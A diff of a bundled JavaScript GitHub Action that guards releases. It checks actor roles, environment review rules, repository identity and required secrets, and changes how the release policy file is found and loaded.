@@ -40,16 +40,16 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("process");
 /***/ ((__webpack_module__, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(__webpack_module__, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _adapters_actions_runtime_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(9262);
-/* harmony import */ var _adapters_disk_workspace_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(1482);
-/* harmony import */ var _adapters_failure_report_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(5383);
-/* harmony import */ var _adapters_run_readings_js__WEBPACK_IMPORTED_MODULE_3__ = __nccwpck_require__(2949);
-/* harmony import */ var _adapters_system_clock_js__WEBPACK_IMPORTED_MODULE_4__ = __nccwpck_require__(5440);
-/* harmony import */ var _checks_permissions_registry_js__WEBPACK_IMPORTED_MODULE_5__ = __nccwpck_require__(8296);
-/* harmony import */ var _checks_secrets_registry_js__WEBPACK_IMPORTED_MODULE_6__ = __nccwpck_require__(983);
-/* harmony import */ var _checks_workflow_registry_js__WEBPACK_IMPORTED_MODULE_7__ = __nccwpck_require__(5217);
-/* harmony import */ var _run_js__WEBPACK_IMPORTED_MODULE_8__ = __nccwpck_require__(8544);
-/* harmony import */ var _spec_js__WEBPACK_IMPORTED_MODULE_9__ = __nccwpck_require__(4969);
+/* harmony import */ var _adapters_actions_runtime_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(9262);
+/* harmony import */ var _adapters_disk_workspace_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(1482);
+/* harmony import */ var _adapters_failure_report_js__WEBPACK_IMPORTED_MODULE_9__ = __nccwpck_require__(5383);
+/* harmony import */ var _adapters_run_readings_js__WEBPACK_IMPORTED_MODULE_4__ = __nccwpck_require__(2949);
+/* harmony import */ var _adapters_system_clock_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(5440);
+/* harmony import */ var _checks_permissions_registry_js__WEBPACK_IMPORTED_MODULE_7__ = __nccwpck_require__(1123);
+/* harmony import */ var _checks_secrets_registry_js__WEBPACK_IMPORTED_MODULE_6__ = __nccwpck_require__(2695);
+/* harmony import */ var _checks_workflow_registry_js__WEBPACK_IMPORTED_MODULE_8__ = __nccwpck_require__(5217);
+/* harmony import */ var _run_js__WEBPACK_IMPORTED_MODULE_5__ = __nccwpck_require__(3429);
+/* harmony import */ var _spec_js__WEBPACK_IMPORTED_MODULE_3__ = __nccwpck_require__(4969);
 
 
 
@@ -60,14 +60,14 @@ __nccwpck_require__.a(__webpack_module__, async (__webpack_handle_async_dependen
 
 
 
-const shared = { workspace: (0,_adapters_disk_workspace_js__WEBPACK_IMPORTED_MODULE_1__/* .diskWorkspace */ .D)(process.cwd()), clock: _adapters_system_clock_js__WEBPACK_IMPORTED_MODULE_4__/* .systemClock */ .m };
-await (0,_adapters_actions_runtime_js__WEBPACK_IMPORTED_MODULE_0__/* .runAction */ .C)(_spec_js__WEBPACK_IMPORTED_MODULE_9__/* .spec */ .I, (inputs, surroundings) => {
-    const readings = (0,_adapters_run_readings_js__WEBPACK_IMPORTED_MODULE_3__/* .runReadings */ .F)(inputs["github-token"], surroundings);
-    return (0,_run_js__WEBPACK_IMPORTED_MODULE_8__/* .validate */ .t)(inputs, {
+const shared = { workspace: (0,_adapters_disk_workspace_js__WEBPACK_IMPORTED_MODULE_0__/* .diskWorkspace */ .D)(process.cwd()), clock: _adapters_system_clock_js__WEBPACK_IMPORTED_MODULE_1__/* .systemClock */ .m };
+await (0,_adapters_actions_runtime_js__WEBPACK_IMPORTED_MODULE_2__/* .runAction */ .C)(_spec_js__WEBPACK_IMPORTED_MODULE_3__/* .spec */ .I, (inputs, surroundings) => {
+    const readings = (0,_adapters_run_readings_js__WEBPACK_IMPORTED_MODULE_4__/* .runReadings */ .F)(inputs["github-token"], surroundings);
+    return (0,_run_js__WEBPACK_IMPORTED_MODULE_5__/* .validate */ .t)(inputs, {
         secrets: { ...shared, ...surroundings, checks: _checks_secrets_registry_js__WEBPACK_IMPORTED_MODULE_6__/* .secretsChecks */ .d },
-        permissions: { ...shared, ...readings, checks: _checks_permissions_registry_js__WEBPACK_IMPORTED_MODULE_5__/* .permissionsChecks */ .U },
-        scan: { ...shared, checks: _checks_workflow_registry_js__WEBPACK_IMPORTED_MODULE_7__/* .workflowChecks */ .n },
-        reportOfFailure: (gate, error) => (0,_adapters_failure_report_js__WEBPACK_IMPORTED_MODULE_2__/* .reportOfFailure */ .s)(gate, error, process.env["RUNNER_DEBUG"] === "1"),
+        permissions: { ...shared, ...readings, checks: _checks_permissions_registry_js__WEBPACK_IMPORTED_MODULE_7__/* .permissionsChecks */ .U },
+        scan: { ...shared, checks: _checks_workflow_registry_js__WEBPACK_IMPORTED_MODULE_8__/* .workflowChecks */ .n },
+        reportOfFailure: (gate, error) => (0,_adapters_failure_report_js__WEBPACK_IMPORTED_MODULE_9__/* .reportOfFailure */ .s)(gate, error, process.env["RUNNER_DEBUG"] === "1"),
     });
 });
 
@@ -76,7 +76,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 8544:
+/***/ 3429:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -186,19 +186,19 @@ function runTable({ run, rules, attempt, ...facts }) {
             ["Event", (0,visible_text/* visibleText */.Q)(run.eventName), api(({ event }) => event)],
             ["Ref", (0,visible_text/* visibleText */.Q)(run.ref), api(({ headBranch }) => headBranch)],
             ["Commit", run.sha, api(({ headSha }) => headSha)],
-            [`Head of ${rules.branch}`, "–", shown(facts.branchHead, (sha) => sha)],
+            [`Head of ${rules.branch}`, "\u2013", shown(facts.branchHead, (sha) => sha)],
             ["Attempt", String(run.runAttempt), api(({ number }) => String(number))],
             ["Actor", (0,visible_text/* visibleText */.Q)(run.actor), api(({ actor }) => person(actor))],
-            ["Role of the actor", "–", shown(facts.actorRole, role)],
+            ["Role of the actor", "\u2013", shown(facts.actorRole, role)],
             [
                 "Triggering actor",
                 (0,visible_text/* visibleText */.Q)(run.triggeringActor),
                 api((of) => person(of.triggeringActor)),
             ],
-            ["Role of the triggering actor", "–", shown(facts.triggeringActorRole, role)],
+            ["Role of the triggering actor", "\u2013", shown(facts.triggeringActorRole, role)],
             [
                 `Environment ${(0,visible_text/* visibleText */.Q)(rules.environment)}`,
-                "–",
+                "\u2013",
                 shown(facts.environment, environmentText),
             ],
         ],
@@ -259,6 +259,9 @@ function sentenceOf(findings, blind, seen) {
 /** Turns what the checks said into the report's core. Could-not-check is never a pass. */
 function conclude(conclusion) {
     const { judgement, policy, failOn, files, today, action } = conclusion;
+    // Without a check everything would pass.
+    if (judgement.verdicts.length === 0)
+        throw new Error(`${action} was started without checks`);
     const findings = suppressByPolicy(judgement.findings, policy.scan.ignore, today);
     const verdicts = judgement.verdicts.map((verdict) => tolerate(verdict, conclusion));
     const blocks = (finding) => !finding.suppressed && (0,finding_severity/* isAtLeast */.du)(finding.severity, failOn);
@@ -280,19 +283,54 @@ function conclude(conclusion) {
 
 // EXTERNAL MODULE: ./.build/out/domain/time/day-of.js
 var day_of = __nccwpck_require__(2960);
-// EXTERNAL MODULE: ./.build/out/domain/policy/parse-policy.js
-var parse_policy = __nccwpck_require__(5785);
-// EXTERNAL MODULE: ./.build/out/domain/policy/policy.js + 1 modules
-var policy = __nccwpck_require__(9227);
+;// CONCATENATED MODULE: ./.build/out/domain/policy/default-policy.js
+/** What holds where there is no policy. Written out, because to build the schema for it would cost every start 15 ms; a test compares the two. */
+const defaultPolicy = () => ({
+    version: 1,
+    repository: { branch: "main" },
+    targets: [],
+    secrets: [],
+    permissions: { roles: ["maintain", "admin"], "actor-ids": [], environment: "release" },
+    scan: { ignore: [] },
+    licences: [],
+    "could-not-check": {},
+});
+
+// EXTERNAL MODULE: ./.build/out/domain/policy/policy-path.js
+var policy_path = __nccwpck_require__(6087);
 ;// CONCATENATED MODULE: ./.build/out/ports/policy-file.js
 
 
-/** The policy of the workspace. An absent file is only fine where nobody named it. */
-async function readPolicy(workspace, named) {
-    const path = named === "" ? policy/* POLICY_PATH */.l : named;
-    if (named === "" && !(await workspace.exists(path)))
-        return (0,parse_policy/* defaultPolicy */.G)();
-    return (0,parse_policy/* parsePolicy */.O)(path, new TextDecoder().decode(await workspace.read(path)));
+
+/** The other spelling of the file's name, which nobody reads. */
+const MISSPELT = policy_path/* POLICY_PATH */.l.replace(/\.yml$/, ".yaml");
+/** What every checkout of a repository with workflows holds. */
+const OF_A_CHECKOUT = [".git", ".github"];
+const refuse = (says, fix) => new guard_error/* GuardError */.U("policy", { says, fix });
+async function checkAbsence(workspace, onRunner) {
+    if (await workspace.exists(MISSPELT))
+        throw refuse(`The policy is called ${MISSPELT}, which is not read`, `Rename it to ${policy_path/* POLICY_PATH */.l}, or name it with the input \`policy\`.`);
+    if (!onRunner)
+        return;
+    const found = await Promise.all(OF_A_CHECKOUT.map(async (path) => workspace.exists(path)));
+    if (found.some(Boolean))
+        return;
+    throw refuse("The workspace holds no checkout, so nobody can say whether the repository has a policy", "Check out the repository in a step before this one, or name the policy with the input `policy`.");
+}
+/**
+ * The policy of the workspace. An absent file is only fine where nobody named it, and on a runner
+ * only in a checkout: a job that forgot to check out would release under rules that nobody wrote.
+ */
+async function readPolicy(workspace, named, onRunner = false) {
+    const path = named === "" ? policy_path/* POLICY_PATH */.l : named;
+    if (named === "" && !(await workspace.exists(path))) {
+        await checkAbsence(workspace, onRunner);
+        return defaultPolicy();
+    }
+    const text = new TextDecoder().decode(await workspace.read(path));
+    // Where there is no policy, its schema and a YAML parser are not loaded.
+    const { parsePolicy } = await __nccwpck_require__.e(/* import() */ 923).then(__nccwpck_require__.bind(__nccwpck_require__, 8923));
+    return parsePolicy(path, text);
 }
 
 // EXTERNAL MODULE: ./.build/out/domain/failure/fact.js
@@ -382,8 +420,8 @@ async function gatherFacts(run, rules, { gitHub, workspace }) {
 
 /** Proves that this run, on this commit, by these people, may release. */
 async function checkPermissions(inputs, ports) {
-    const policy = await readPolicy(ports.workspace, inputs.policy);
     const run = ports.run();
+    const policy = await readPolicy(ports.workspace, inputs.policy, true);
     const rehearsal = ports.rehearsal();
     const rules = rulesOf(policy, inputs.environment);
     const facts = await gatherFacts(run, rules, { ...ports, gitHub: ports.gitHub(run) });
@@ -689,7 +727,7 @@ var sinks_of = __nccwpck_require__(2869);
 
 
 
-const words = (list) => [...new Set(list)].join(", ") || "–";
+const words = (list) => [...new Set(list)].join(", ") || "\u2013";
 function rowOf(job) {
     const { workflow, environment } = job;
     const named = environment?.name?.text ?? "yes";
@@ -1675,8 +1713,8 @@ function hiddenParts(value, clean) {
     return [...new Set([value, clean, ...leaves])].filter((part) => part !== "" && !(0,placeholder/* isCommonWord */.e)(part));
 }
 
-// EXTERNAL MODULE: ./.build/out/domain/token/secret-facts.js + 6 modules
-var secret_facts = __nccwpck_require__(7682);
+// EXTERNAL MODULE: ./.build/out/domain/token/secret-facts.js + 9 modules
+var secret_facts = __nccwpck_require__(9662);
 ;// CONCATENATED MODULE: ./.build/out/domain/token/secret-table.js
 
 
@@ -1695,7 +1733,7 @@ function foundText(secret) {
     return secret.token?.kind ?? "not recognised";
 }
 const dayText = (seconds) => seconds === undefined ? UNTOLD : (0,day_of/* dayOf */.k)(seconds * 1000);
-const checksumText = (token) => token === undefined || token.checksum === "none" ? "–" : token.checksum;
+const checksumText = (token) => token === undefined || token.checksum === "none" ? "\u2013" : token.checksum;
 const secret_table_rowOf = (secret) => [
     secret.name,
     secret.wanted,
@@ -1727,7 +1765,8 @@ function summaryOf(secrets, summary) {
 }
 /** Looks at every secret that the policy requires; nothing leaves the process. */
 async function validateSecrets(inputs, ports) {
-    const policy = await readPolicy(ports.workspace, inputs.policy);
+    const onRunner = ports.env["GITHUB_ACTIONS"] === "true";
+    const policy = await readPolicy(ports.workspace, inputs.policy, onRunner);
     const now = ports.clock.now();
     const secrets = (0,secret_facts/* gatherSecrets */.bq)(policy, ports.env, now);
     // Before anything else can fail and print.
@@ -2947,8 +2986,8 @@ const sarifMessage = (text) => visible(text)
     .replaceAll("](", "] (")
     .replaceAll(/\{(\d+)\}/g, "{ $1 }");
 
-// EXTERNAL MODULE: ./.build/out/domain/policy/policy.js + 1 modules
-var policy_policy = __nccwpck_require__(9227);
+// EXTERNAL MODULE: ./.build/out/domain/policy/policy-path.js
+var policy_path = __nccwpck_require__(6087);
 ;// CONCATENATED MODULE: ./.build/out/report/sarif/location.js
 
 const segment = (text) => encodeURIComponent(text.toWellFormed()).replaceAll(/[!'()*]/g, (character) => `%${character.charCodeAt(0).toString(16).toUpperCase()}`);
@@ -2978,7 +3017,7 @@ const locationOf = ({ path, start, end }) => ({
 /** GitHub takes no result without a place, so what is not in a file is shown at the policy, which can speak of it. */
 const PLACELESS = {
     physicalLocation: {
-        artifactLocation: artifactLocation(policy_policy/* POLICY_PATH */.l),
+        artifactLocation: artifactLocation(policy_path/* POLICY_PATH */.l),
         region: { startLine: 1, startColumn: 1, endLine: 1, endColumn: 1 },
     },
 };
@@ -3659,6 +3698,8 @@ function printText(report, options = {}) {
     return `${commandFree(lines.join("\n"))}\n`;
 }
 
+// EXTERNAL MODULE: ./node_modules/zod/v4/core/core.js
+var core = __nccwpck_require__(8532);
 // EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 9 modules
 var schemas = __nccwpck_require__(7597);
 // EXTERNAL MODULE: ./.build/out/domain/failure/guard-error.js
@@ -3666,6 +3707,8 @@ var guard_error = __nccwpck_require__(7501);
 ;// CONCATENATED MODULE: ./.build/out/adapters/action-inputs.js
 
 
+// To turn a schema into code pays after thousands of values; a run has dozens. It also needs `eval`.
+core/* config */.$W({ jitless: true });
 /** The runner's name for an input: upper case, blanks as underscores, hyphens kept. */
 const variableOf = (name) => `INPUT_${name.replaceAll(" ", "_").toUpperCase()}`;
 const isSecret = (type) => type.meta()?.["secret"] === true;
@@ -4457,12 +4500,13 @@ const systemClock = {
 /* harmony export */   qH: () => (/* binding */ defineCheck)
 /* harmony export */ });
 /* unused harmony export FAMILIES */
-/** `release` looks before anything is published, `published` at what the world sees afterwards. */
+/** `package` looks at an npm package, `asset` at every other file of a release, `release` looks before anything is published, `published` at what the world sees afterwards. */
 const FAMILIES = (/* unused pure expression or super */ null && ([
     "workflow",
     "secrets",
     "permissions",
     "package",
+    "asset",
     "release",
     "published",
 ]));
@@ -4475,7 +4519,7 @@ const defineSubjectCheck = (check) => check;
 
 /***/ }),
 
-/***/ 8296:
+/***/ 1123:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -4529,100 +4573,6 @@ function* inspectPerson(person) {
         yield* inspectRole(person, account.value);
 }
 
-;// CONCATENATED MODULE: ./.build/out/domain/permission/release-specimen.js
-
-const SHA = "4f2a".repeat(10);
-const MAINTAINER = { id: 7, login: "maintainer", type: "User" };
-const WORKFLOW = ".github/workflows/release.yml";
-const run = {
-    repository: "org/project",
-    repositoryId: "42",
-    ownerId: "1",
-    sha: SHA,
-    ref: "refs/heads/main",
-    refType: "branch",
-    eventName: "workflow_dispatch",
-    actor: MAINTAINER.login,
-    actorId: String(MAINTAINER.id),
-    triggeringActor: MAINTAINER.login,
-    runId: "1000",
-    runAttempt: 1,
-    workflowRef: `org/project/${WORKFLOW}@refs/heads/main`,
-    workflowSha: SHA,
-    job: "guard",
-    serverUrl: "https://github.com",
-    runnerEnvironment: "github-hosted",
-};
-const attempt = {
-    number: 1,
-    event: "workflow_dispatch",
-    headBranch: "main",
-    headSha: SHA,
-    workflowPath: WORKFLOW,
-    repositoryId: 42,
-    headRepositoryId: 42,
-    actor: MAINTAINER,
-    triggeringActor: MAINTAINER,
-};
-const environment = {
-    reviewers: 1,
-    preventsSelfReview: true,
-    branches: "custom",
-    adminsBypass: false,
-};
-const rules = {
-    branch: "main",
-    roles: ["maintain", "admin"],
-    actorIds: [],
-    environment: "release",
-};
-/** A run that may release; the examples of the checks spoil one thing each. */
-const goodRelease = {
-    rules,
-    run,
-    repository: (0,fact/* known */.e)({ id: 42, fork: false }),
-    attempt: (0,fact/* known */.e)(attempt),
-    actorRole: (0,fact/* known */.e)({ accountId: MAINTAINER.id, name: "maintain" }),
-    triggeringActorRole: (0,fact/* known */.e)({ accountId: MAINTAINER.id, name: "maintain" }),
-    environment: (0,fact/* known */.e)(environment),
-    branchPolicies: (0,fact/* known */.e)([{ name: "main", type: "branch" }]),
-    branchHead: (0,fact/* known */.e)(SHA),
-    tagNamedLikeBranch: (0,fact/* known */.e)(false),
-    jobs: (0,fact/* known */.e)([
-        {
-            path: WORKFLOW,
-            id: "guard",
-            calls: false,
-            permissions: { actions: "read", contents: "read" },
-        },
-    ]),
-};
-const withRun = (changes) => ({
-    ...goodRelease,
-    run: { ...run, ...changes },
-});
-const withAttempt = (changes) => ({
-    ...goodRelease,
-    attempt: (0,fact/* known */.e)({ ...attempt, ...changes }),
-});
-const withRules = (changes) => ({
-    ...goodRelease,
-    rules: { ...rules, ...changes },
-});
-const withEnvironment = (changes) => ({
-    ...goodRelease,
-    environment: (0,fact/* known */.e)({ ...environment, ...changes }),
-});
-/** The environment as GitHub describes it when it leaves out one field. */
-function withoutEnvironmentField(field) {
-    const { [field]: _, ...rest } = environment;
-    return { ...goodRelease, environment: (0,fact/* known */.e)(rest) };
-}
-const withJob = (permissions, calls = false) => ({
-    ...goodRelease,
-    jobs: (0,fact/* known */.e)([{ path: WORKFLOW, id: "guard", calls, permissions }]),
-});
-
 // EXTERNAL MODULE: ./.build/out/checks/define-check.js
 var define_check = __nccwpck_require__(7345);
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/actor-may-not-release.js
@@ -4632,7 +4582,7 @@ var define_check = __nccwpck_require__(7345);
 
 const withRole = (name) => ({
     ...goodRelease,
-    actorRole: (0,fact/* known */.e)({ accountId: 7, name }),
+    actorRole: known({ accountId: 7, name }),
 });
 const BOT = { id: 8, login: "robot[bot]", type: "Bot" };
 const asBot = (bot = BOT) => ({
@@ -4654,78 +4604,53 @@ const asBot = (bot = BOT) => ({
         rules,
     }),
     examples: {
-        bad: [
-            {
-                title: "somebody with write access",
-                given: () => withRole("write"),
-                says: "The actor maintainer has the role write; only maintain or admin may release",
-            },
-            {
-                title: "a custom role with a name that looks right",
-                given: () => withRole("maintainer"),
-                says: "has the role maintainer",
-            },
-            {
-                title: "a role of another case",
-                given: () => withRole("Admin"),
-                says: "has the role Admin",
-            },
-            { title: "a bot", given: () => asBot(), says: "The actor robot[bot] (id 8) is a bot" },
-            {
-                title: "a bot whose login does not say so",
-                given: () => asBot({ ...BOT, login: "Copilot" }),
-                says: "Copilot (id 8) is a bot",
-            },
-            {
-                title: "a bot that is listed as a user",
-                given: () => asBot({ ...BOT, type: "User" }),
-                says: "robot[bot] (id 8) is a bot",
-            },
-            {
-                title: "a login that somebody else has taken",
-                given: () => ({ ...goodRelease, actorRole: (0,fact/* known */.e)({ accountId: 9, name: "admin" }) }),
-                says: "belongs to another account by now",
-            },
-            {
-                title: "a runner that was lied to",
-                given: () => withRun({ actor: "somebody", actorId: "99" }),
-                says: "and GitHub's API says maintainer (id 7)",
-            },
-            {
-                title: "a policy that lists no role",
-                given: () => withRules({ roles: [] }),
-                says: "only an account listed in the policy may release",
-            },
-        ],
-        good: [
-            { title: "a maintainer", given: () => goodRelease },
-            { title: "an administrator", given: () => withRole("admin") },
-            {
-                title: "a login in another case, which is the same account",
-                given: () => withRun({ actor: "Maintainer" }),
-            },
-            {
-                title: "a custom role that the policy lists",
-                given: () => ({ ...withRole("releaser"), rules: withRules({ roles: ["releaser"] }).rules }),
-            },
-            {
-                title: "a bot whose number the policy lists",
-                given: () => ({ ...asBot(), rules: withRules({ actorIds: [8] }).rules }),
-            },
-        ],
-        unknown: [
-            {
-                title: "a run that the token may not read",
-                given: () => ({ ...goodRelease, attempt: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-            {
-                title: "a role that the token may not read",
-                given: () => ({ ...goodRelease, actorRole: (0,fact/* unknown */.L)("metadata: read") }),
-                says: "metadata: read",
-            },
-        ],
+  "bad": [
+    {
+      "title": "somebody with write access"
     },
+    {
+      "title": "a custom role with a name that looks right"
+    },
+    {
+      "title": "a role of another case"
+    },
+    {
+      "title": "a bot"
+    },
+    {
+      "title": "a bot whose login does not say so"
+    },
+    {
+      "title": "a bot that is listed as a user"
+    },
+    {
+      "title": "a login that somebody else has taken"
+    },
+    {
+      "title": "a runner that was lied to"
+    },
+    {
+      "title": "a policy that lists no role"
+    }
+  ],
+  "good": [
+    {
+      "title": "a maintainer"
+    },
+    {
+      "title": "an administrator"
+    },
+    {
+      "title": "a login in another case, which is the same account"
+    },
+    {
+      "title": "a custom role that the policy lists"
+    },
+    {
+      "title": "a bot whose number the policy lists"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/branch-moved.js
@@ -4748,22 +4673,17 @@ const asBot = (bot = BOT) => ({
             };
     },
     examples: {
-        bad: [
-            {
-                title: "a branch with a newer commit",
-                given: () => ({ ...goodRelease, branchHead: (0,fact/* known */.e)("b".repeat(40)) }),
-                says: `main is at ${"b".repeat(40)}`,
-            },
-        ],
-        good: [{ title: "the head of the branch", given: () => goodRelease }],
-        unknown: [
-            {
-                title: "a branch that the token may not read",
-                given: () => ({ ...goodRelease, branchHead: (0,fact/* unknown */.L)("contents: read") }),
-                says: "contents: read",
-            },
-        ],
-    },
+  "bad": [
+    {
+      "title": "a branch with a newer commit"
+    }
+  ],
+  "good": [
+    {
+      "title": "the head of the branch"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/environment-admin-bypass.js
@@ -4794,27 +4714,17 @@ const asBot = (bot = BOT) => ({
             };
     },
     examples: {
-        bad: [
-            {
-                title: "the setting that new environments have",
-                given: () => withEnvironment({ adminsBypass: true }),
-                says: "Administrators may skip the rules",
-            },
-        ],
-        good: [{ title: "rules that hold for everybody", given: () => goodRelease }],
-        unknown: [
-            {
-                title: "an answer without the setting",
-                given: () => withoutEnvironmentField("adminsBypass"),
-                says: "can_admins_bypass",
-            },
-            {
-                title: "an environment that the token may not read",
-                given: () => ({ ...goodRelease, environment: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-        ],
-    },
+  "bad": [
+    {
+      "title": "the setting that new environments have"
+    }
+  ],
+  "good": [
+    {
+      "title": "rules that hold for everybody"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/environment-branch-policy.js
@@ -4824,7 +4734,7 @@ const asBot = (bot = BOT) => ({
 
 const withPolicies = (...policies) => ({
     ...goodRelease,
-    branchPolicies: (0,fact/* known */.e)(policies),
+    branchPolicies: known(policies),
 });
 function* inspectPolicies({ branch, environment }, policies) {
     if (!policies.known) {
@@ -4866,57 +4776,32 @@ function* inspectPolicies({ branch, environment }, policies) {
             yield* inspectPolicies(rules, branchPolicies);
     },
     examples: {
-        bad: [
-            {
-                title: "no rule",
-                given: () => withEnvironment({ branches: "any" }),
-                says: "lets every branch and tag deploy",
-            },
-            {
-                title: "protected branches only",
-                given: () => withEnvironment({ branches: "protected" }),
-                says: "and every branch at all where none is protected",
-            },
-            {
-                title: "a pattern",
-                given: () => withPolicies({ name: "main*", type: "branch" }),
-                says: "also lets the branch main* deploy",
-            },
-            {
-                title: "a tag named like the branch",
-                given: () => withPolicies({ name: "main", type: "branch" }, { name: "main", type: "tag" }),
-                says: "also lets the tag main deploy",
-            },
-            {
-                title: "another branch only",
-                given: () => withPolicies({ name: "release", type: "branch" }),
-                says: "does not let the branch main deploy",
-            },
-            {
-                title: "an empty list",
-                given: () => withPolicies(),
-                says: "does not let the branch main deploy",
-            },
-        ],
-        good: [{ title: "exactly the release branch", given: () => goodRelease }],
-        unknown: [
-            {
-                title: "an environment that the token may not read",
-                given: () => ({ ...goodRelease, environment: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-            {
-                title: "rules that the token may not read",
-                given: () => ({ ...goodRelease, branchPolicies: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-            {
-                title: "a rule that does not say whether it is for branches",
-                given: () => withPolicies({ name: "main", type: "branch" }, { name: "main" }),
-                says: "the type of each branch rule",
-            },
-        ],
+  "bad": [
+    {
+      "title": "no rule"
     },
+    {
+      "title": "protected branches only"
+    },
+    {
+      "title": "a pattern"
+    },
+    {
+      "title": "a tag named like the branch"
+    },
+    {
+      "title": "another branch only"
+    },
+    {
+      "title": "an empty list"
+    }
+  ],
+  "good": [
+    {
+      "title": "exactly the release branch"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/environment-missing.js
@@ -4940,22 +4825,17 @@ function* inspectPolicies({ branch, environment }, policies) {
             };
     },
     examples: {
-        bad: [
-            {
-                title: "a name that was never created",
-                given: () => ({ ...goodRelease, environment: (0,fact/* known */.e)("absent") }),
-                says: "no environment named release",
-            },
-        ],
-        good: [{ title: "an environment that exists", given: () => goodRelease }],
-        unknown: [
-            {
-                title: "an environment that the token may not read",
-                given: () => ({ ...goodRelease, environment: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-        ],
-    },
+  "bad": [
+    {
+      "title": "a name that was never created"
+    }
+  ],
+  "good": [
+    {
+      "title": "an environment that exists"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/environment-self-review.js
@@ -4986,30 +4866,20 @@ function* inspectPolicies({ branch, environment }, policies) {
             yield { message: `The environment ${rules.environment} lets people approve their own run` };
     },
     examples: {
-        bad: [
-            {
-                title: "self-review that is not prevented",
-                given: () => withEnvironment({ preventsSelfReview: false }),
-                says: "lets people approve their own run",
-            },
-        ],
-        good: [
-            { title: "self-review that is prevented", given: () => goodRelease },
-            { title: "no reviewers at all", given: () => withEnvironment({ reviewers: 0 }) },
-        ],
-        unknown: [
-            {
-                title: "an answer without the setting",
-                given: () => withoutEnvironmentField("preventsSelfReview"),
-                says: "prevent_self_review",
-            },
-            {
-                title: "an environment that the token may not read",
-                given: () => ({ ...goodRelease, environment: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-        ],
+  "bad": [
+    {
+      "title": "self-review that is not prevented"
+    }
+  ],
+  "good": [
+    {
+      "title": "self-review that is prevented"
     },
+    {
+      "title": "no reviewers at all"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/environment-without-reviewers.js
@@ -5032,22 +4902,17 @@ function* inspectPolicies({ branch, environment }, policies) {
             yield { message: `The environment ${rules.environment} has no required reviewers` };
     },
     examples: {
-        bad: [
-            {
-                title: "an environment without rules",
-                given: () => withEnvironment({ reviewers: 0 }),
-                says: "has no required reviewers",
-            },
-        ],
-        good: [{ title: "one reviewer", given: () => goodRelease }],
-        unknown: [
-            {
-                title: "an environment that the token may not read",
-                given: () => ({ ...goodRelease, environment: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-        ],
-    },
+  "bad": [
+    {
+      "title": "an environment without rules"
+    }
+  ],
+  "good": [
+    {
+      "title": "one reviewer"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/permissions/foreign-repository.js
@@ -5088,57 +4953,35 @@ function* inspectPolicies({ branch, environment }, policies) {
             };
     },
     examples: {
-        bad: [
-            {
-                title: "a number that is not the pinned one",
-                given: () => withRules({ repositoryId: "43" }),
-                says: "The run is in repository 42, and the policy names 43",
-            },
-            {
-                title: "a runner that was lied to",
-                given: () => withRun({ repositoryId: "99" }),
-                says: "GitHub's API says that org/project is repository 42, not 99",
-            },
-            {
-                title: "code from a fork",
-                given: () => withAttempt({ headRepositoryId: 66 }),
-                says: "The run's code comes from repository 66",
-            },
-            {
-                title: "a run of another repository",
-                given: () => withAttempt({ repositoryId: 66, headRepositoryId: 66 }),
-                says: "the run is in repository 66",
-            },
-            {
-                title: "a fork that nobody pinned",
-                given: () => ({ ...goodRelease, repository: (0,fact/* known */.e)({ id: 42, fork: true }) }),
-                says: "org/project is a fork",
-            },
-        ],
-        good: [
-            { title: "the repository itself", given: () => goodRelease },
-            { title: "the pinned number", given: () => withRules({ repositoryId: "42" }) },
-            {
-                title: "a fork that pins its own number",
-                given: () => ({
-                    ...withRules({ repositoryId: "42" }),
-                    repository: (0,fact/* known */.e)({ id: 42, fork: true }),
-                }),
-            },
-        ],
-        unknown: [
-            {
-                title: "a repository that the token may not read",
-                given: () => ({ ...goodRelease, repository: (0,fact/* unknown */.L)("metadata: read") }),
-                says: "metadata: read",
-            },
-            {
-                title: "a run that the token may not read",
-                given: () => ({ ...goodRelease, attempt: (0,fact/* unknown */.L)("actions: read") }),
-                says: "actions: read",
-            },
-        ],
+  "bad": [
+    {
+      "title": "a number that is not the pinned one"
     },
+    {
+      "title": "a runner that was lied to"
+    },
+    {
+      "title": "code from a fork"
+    },
+    {
+      "title": "a run of another repository"
+    },
+    {
+      "title": "a fork that nobody pinned"
+    }
+  ],
+  "good": [
+    {
+      "title": "the repository itself"
+    },
+    {
+      "title": "the pinned number"
+    },
+    {
+      "title": "a fork that pins its own number"
+    }
+  ]
+},
 }));
 
 // EXTERNAL MODULE: ./.build/out/domain/permission/declared-permissions.js
@@ -5195,55 +5038,44 @@ function* inspectJob(job) {
                 yield* inspectJob(job);
     },
     examples: {
-        bad: [
-            {
